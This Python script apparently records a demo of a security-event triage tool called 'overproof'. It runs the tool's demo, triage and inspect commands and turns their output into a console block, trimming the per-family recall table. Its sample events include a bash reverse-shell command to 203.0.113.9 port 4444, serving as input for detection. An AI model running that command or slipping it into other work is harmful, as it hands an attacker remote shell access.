"""Run a few commands for the transcript, and keep what they really printed."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

from settings import OUT

DEMO = OUT / "field" / "simulated"  # what `captures` judges with
EVENTS = [
    "HTTP GET /index.html host=shop.example.com",
    "SSH src=ws-14 dst=203.0.113.23 port=22 known=no client=OpenSSH_9.6 auth=password tries=2^1 bytes=2^14 user=root",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "flows host=gw src=192.168.1.46 dst=db.corp.test conns=2^10 ports=2^9 peers=2^1 failed=50% gap=2^1s jitter=2^1%",
]
FAMILIES_SHOWN = 8
COMMANDS = [
    f"overproof demo --out {DEMO}",
    f"overproof triage {DEMO}/bundle {OUT}/events.txt",
    f"overproof inspect {DEMO}/bundle --json | head -c 300",
]


def measured() -> dict[str, Any]:
    """Run the commands one after the other in a shell; what they print on either channel."""
    (OUT / "events.txt").write_text("".join(f"{event}\n" for event in EVENTS))
    path = f"{Path(sys.executable).parent}:{os.environ['PATH']}"
    printed = {}
    for command in COMMANDS:
        done = subprocess.run(
            ["bash", "-c", command],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            env={**os.environ, "PATH": path, "COLUMNS": "120"},
            check=True,
        )
        printed[command] = done.stdout
    return printed


def to_markdown(result: dict[str, Any]) -> str:
    """All of it in one block; of the long table of families, the first rows."""
    parts = [f"$ {command}\n{_shortened(printed).rstrip()}" for command, printed in result.items()]
    return "```console\n" + "\n\n".join(parts) + "\n```"


def _shortened(printed: str) -> str:
    head, found, rest = printed.partition("recall by family")
    table, blank, tail = rest.partition("\n\n")
    rows = table.splitlines()
    if not found or len(rows) <= FAMILIES_SHOWN + 2:
        return printed
    left_out = f"[… {len(rows) - 2 - FAMILIES_SHOWN} more families]"
    return head + found + "\n".join([*rows[: 2 + FAMILIES_SHOWN], left_out]) + blank + tail
